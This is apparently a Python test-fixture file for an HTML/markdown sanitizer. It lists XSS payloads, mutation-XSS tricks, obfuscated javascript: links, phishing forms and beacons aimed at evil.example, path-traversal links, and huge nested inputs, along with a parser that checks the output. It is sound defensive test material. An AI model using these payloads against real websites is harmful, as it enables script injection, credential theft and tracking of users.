"""Texts that try to run, to fetch, to leave their place or to take long; and what any HTML made of a text may hold."""

from __future__ import annotations

from html.parser import HTMLParser

IMAGES, FILES = "/ui/raw/t/m/1/", "/ui/models/t/m/versions/1?tab=files&path="
WEB = ("http://", "https://", "mailto:")

SCRIPTS = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/src=//evil.example/x></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x.png onload=alert(1) style='position:fixed'>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.html></object><embed src=x.html><applet code=x></applet>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)></body></html><html onfocus=alert(1)>",
    "<input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example/><input name=q><button>Sign in</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; java&#x09;script&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a><a href='vbscript:x'>x</a><a href='data:text/html,x'>x</a>",
    "<a href='//evil.example/x'>x</a><a href='\\\\evil.example'>x</a><a href='/\\evil.example'>x</a>",
    "<a href='http://[x'>x</a><a href='https:evil'>x</a><a href='https:///evil'>x</a><a href='http:/x'>x</a>",
    "<a href=x target=_top ping=https://evil.example/ download>x</a>",
    "[x](javascript:alert(1)) [x](<java script:alert(1)>) [x](&#106;avascript:alert(1)) [x](j\u0000avascript:a)",
    "![x](javascript:alert(1)) ![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/beacon.png) ![x](//evil.example/b.png) <img src=https://evil.example/b.png>",
    "<picture><source srcset=https://evil.example/x><img srcset='https://evil.example/y 2x' src=z.png></picture>",
    "<video src=https://evil.example/x poster=https://evil.example/y></video><audio src=x autoplay></audio>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/x'; body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
    "<div style='background:url(https://evil.example/x)'>x</div><p style=color:red class='band error'>x</p>",
    "<div id=main class=wide><p id=forms><a id=cookie name=body href='#x'>x</a></p></div>",
    "</div></section></main></body></html><h1>Not of the card</h1>",
    "<!-- x --><!--><img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]> <?php x ?> <!DOCTYPE x>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'><plaintext><img src=x onerror=alert(1)>",
    "<img alt='\"><script>alert(1)</script>' src=\"a'b.png\"> <img alt=' src=\"https://evil.example/\" '>",
    '```python"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    '# <script>alert(1)</script>\n## "><img src=x onerror=alert(1)>\n\n[x]: javascript:alert(1)\n[x] ![x]',
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |\n\n- [x] <script>alert(1)</script>\n",
    "[up](../../../secrets) [up](%2e%2e/x) [up](/../x) ![up](..%2f..%2fx.png) [nul](a%00b) [r](a%E2%80%AEb) [bad](%ff)",
)

LONG = (
    "[" * 70_000,
    "![" * 40_000,
    "> " * 40_000,
    "*_" * 40_000,
    "<div>" * 20_000,
    "<b>x" * 20_000,
    "- a\n" * 20_000,
    "# a\n" * 20_000,
    "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + "|1|\n" * 200,
    "<p>" + "".join(f"<b id={n}>" for n in range(430)) + "</p>\n\n" + "x\n\n" * 400,
    "<p>" + "".join(f"<i title={n}>" for n in range(430)) + "</p>" + "<p>x</p>" * 400,
    "```python\n" + "f('a', 1)\n" * 5_000 + "```\n",
    "word " * 20_000,
)


class Elements(HTMLParser):
    """Every element of a text of HTML with its attributes, and how many of each are open at its end."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in ("img", "br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open, f"</{tag}> closes what is not its own"
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    handle_decl = handle_pi = unknown_decl = handle_comment
